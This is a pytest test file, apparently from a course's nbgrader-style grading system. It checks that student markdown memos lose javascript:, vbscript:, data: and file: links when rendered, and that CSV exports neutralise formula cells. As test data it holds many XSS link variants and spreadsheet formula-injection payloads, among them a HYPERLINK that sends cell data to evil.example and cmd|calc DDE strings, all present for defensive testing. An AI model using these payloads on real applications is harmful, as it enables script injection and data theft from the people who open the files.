"""Everything the course writes for a person is inert: links in HTML, cells in CSV files.

A markdown link is not HTML, so bleach let ``[read more](javascript:...)`` in a
memo or a ``text/markdown`` output through, and nbconvert (the renderer of the
feedback pages and of formgrader) made it a live link. Each variant below must
reach the rendered HTML without an unsafe address; safe links stay links.
"""

from __future__ import annotations

import csv

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from course import hub
from course.grading.items import item_analysis, item_csv, item_report
from course.grading.items.cohort import Cohort, Item, Learner, Response
from course.grading.judging.verdicts import RIGHT, WRONG, Verdict
from course.grading.results import report
from course.grading.results.csvsafe import FORMULA_START, NUMBER, inert_cell
from course.grading.results.links import inert_markdown, is_safe_url, unsafe_urls
from course.grading.results.sanitize import SanitizeStudentHTML

UNSAFE = [
    "[read more](javascript:alert(1))",
    "[read more](JaVaScRiPt:alert(1))",
    "[read more](&#106;avascript:alert(1))",
    "[read more](&#x6A;avascript&#x3A;alert(1))",
    "[read more](javascript&colon;alert(1))",
    "[read more](<javascript:alert(1)>)",
    "[read more]( \tjavascript:alert(1))",
    "[read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[read more](DATA:text/html,<script>alert(1)</script>)",
    "[read more](vbscript:msgbox(1))",
    "[read more](VbScRiPt:msgbox(1))",
    "[read more][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![chart](javascript:alert(1))",
    "[read more](file:///etc/passwd)",
    '<a href="javascript:alert(1)">read more</a>',
    '<a href="&#106;avascript:alert(1)">read more</a>',
]
SAFE = ["[docs](https://scikit-learn.org/stable/)", "[mail](mailto:teacher@example.org)",
        "[above](#costs)", "[data](../datasets/README.md)", "[plain](http://example.org)"]


def memo_notebook(text: str) -> nbformat.NotebookNode:
    """A notebook with a student's memo cell and a code cell whose output is that markdown."""
    memo = new_markdown_cell(text, metadata={"nbgrader": {
        "solution": True, "grade": True, "locked": False, "points": 2, "grade_id": "memo"}})
    output = new_output("display_data", data={"text/markdown": text, "text/plain": "memo"})
    code = new_code_cell("display(Markdown(memo))", outputs=[output], execution_count=1)
    return new_notebook(cells=[memo, code])


def rendered(nb: nbformat.NotebookNode) -> str:
    """Sanitise as autograde does, then render as the feedback pages and formgrader do."""
    nb, _ = SanitizeStudentHTML().preprocess(nb, {})
    body, _ = HTMLExporter().from_notebook_node(nb)
    return body


@pytest.mark.parametrize("text", UNSAFE)
def test_no_unsafe_link_of_a_memo_or_markdown_output_reaches_the_html(text):
    nb = memo_notebook(text)
    before, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(nb))
    if not text.startswith("<a "):  # bleach already strips unsafe HTML hrefs
        assert unsafe_urls(before), "the variant was not live before: the test proves nothing"
    body = rendered(nb)
    assert unsafe_urls(body) == []
    assert "read more" in body or "chart" in body or "alert" in body, "the memo text is kept"


@pytest.mark.parametrize("text", SAFE)
def test_safe_links_stay_links(text):
    assert inert_markdown(text) == text
    body = rendered(memo_notebook(text))
    target = text.split("(")[1].rstrip(")")
    assert f'href="{target}"' in body


@pytest.mark.parametrize("url,safe", [
    ("https://x.org", True), ("HTTP://x.org", True), ("mailto:a@b.org", True),
    ("#frag", True), ("rel/page.html", True), ("//cdn.example.org/x.js", True),
    ("javascript:x", False), (" JavaScript:x", False), ("\x01javascript:x", False),
    ("java\nscript:x", False), ("&#106;avascript:x", False), ("data:text/html,x", False),
    ("vbscript:x", False), ("file:///etc/passwd", False), ("attachment:x.png", False),
    ("data:image/png;base64,iVBOR", False)])
def test_a_url_is_safe_only_without_a_scheme_or_with_http_https_mailto(url, safe):
    assert is_safe_url(url) is safe


def test_only_an_image_may_embed_a_raster_picture():
    picture = "data:image/png;base64,iVBORw0KGgo="
    assert unsafe_urls(f'<img src="{picture}">') == []
    assert unsafe_urls(f'<a href="{picture}">x</a>') == [picture]
    assert unsafe_urls('<img src="data:image/svg+xml;base64,PHN2Zz4=">') != []


def test_a_memo_shown_as_text_cannot_close_its_code_block():
    text = "```\n[x](javascript:alert(1))\n````\n[y](javascript:alert(2))"
    assert unsafe_urls(rendered(memo_notebook(text))) == []


def test_the_item_report_has_no_live_unsafe_link_even_from_a_hostile_answer():
    wrong = "[x](javascript:alert(1))"
    learners = [Learner(f"s_{i}", {"a": Response(
        Verdict("a", RIGHT if i % 2 else WRONG, "", wrong), float(i % 2))}) for i in range(12)]
    cohort = Cohort("03_metrics", [Item("a", "a_test", "03_metrics", 1.0)], learners)
    page = item_report.render_html(item_analysis.analyse(cohort, {}))
    assert "javascript:alert" in page and unsafe_urls(page) == []


# --- CSV cells ---------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=1+1", "-", "@"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_starting_like_a_formula_is_text(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, "-1.5", "-3", "+2", "-3e-05", 0, "0.712", "", None,
                                   "carol", "a=b", "x - y"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert inert_cell(value) == value


def _spreadsheet_formulas(path) -> list[str]:
    """Every cell a spreadsheet would run: starts with = + - @ (or tab/CR) and is no number."""
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row
                if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)]


def test_answers_csv_and_items_csv_hold_no_formula(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    learners = [Learner(f"s_{i}", {"a": Response(
        Verdict("a", RIGHT if i % 2 else WRONG, "", hostile), float(i % 2))}) for i in range(12)]
    cohort = Cohort("03_metrics", [Item("a", "a_test", "03_metrics", 1.0)], learners)
    item_csv.write_csvs(item_analysis.analyse(cohort, {}), tmp_path, names=True)
    for name in ("answers.csv", "items.csv", "learners.csv"):
        assert _spreadsheet_formulas(tmp_path / name) == [], name
    with (tmp_path / "answers.csv").open(newline="", encoding="utf-8") as handle:
        assert "'" + hostile in [row["answer"] for row in csv.DictReader(handle)]


def test_grades_csv_keeps_numbers_and_neutralises_ids_and_reasons(tmp_path):
    hostile = report.Outcome("=cmd|' /C calc'!A0", report.NOT_GRADED,
                             ["@SUM(1)*cmd: not graded"], score=-2.5, max_score=5)
    honest = report.Outcome("carol", report.GRADED, [], score=3, max_score=5)
    rows = [report.outcome_row(o, "03_metrics", None) for o in (hostile, honest)]
    report.write_csv(tmp_path / "grades.csv", rows)
    assert _spreadsheet_formulas(tmp_path / "grades.csv") == []
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as handle:
        read = list(csv.DictReader(handle))
    assert read[0]["student_id"] == "'=cmd|' /C calc'!A0"
    assert (read[0]["score"], read[1]["score"]) == ("-2.5", "3"), "numbers stay numbers"


def test_first_passwords_never_start_like_a_formula(monkeypatch):
    drawn = iter(["-startsbad", "=bad", "good-one"])
    monkeypatch.setattr(hub.secrets, "token_urlsafe", lambda n: next(drawn))
    assert hub.first_password() == "good-one"


def test_no_markdown_cell_of_the_course_is_shown_as_plain_text():
    from nbtools import module_ids, solution_path

    from course.grading.results.links import has_unsafe_link

    found = [(module, cell.source[:60]) for module in module_ids()
             for cell in nbformat.read(solution_path(module), as_version=4).cells
             if cell.cell_type == "markdown" and has_unsafe_link(cell.source)]
    assert found == []
    assert not has_unsafe_link("**Data:** the ACS answers; see the data: they are real.")
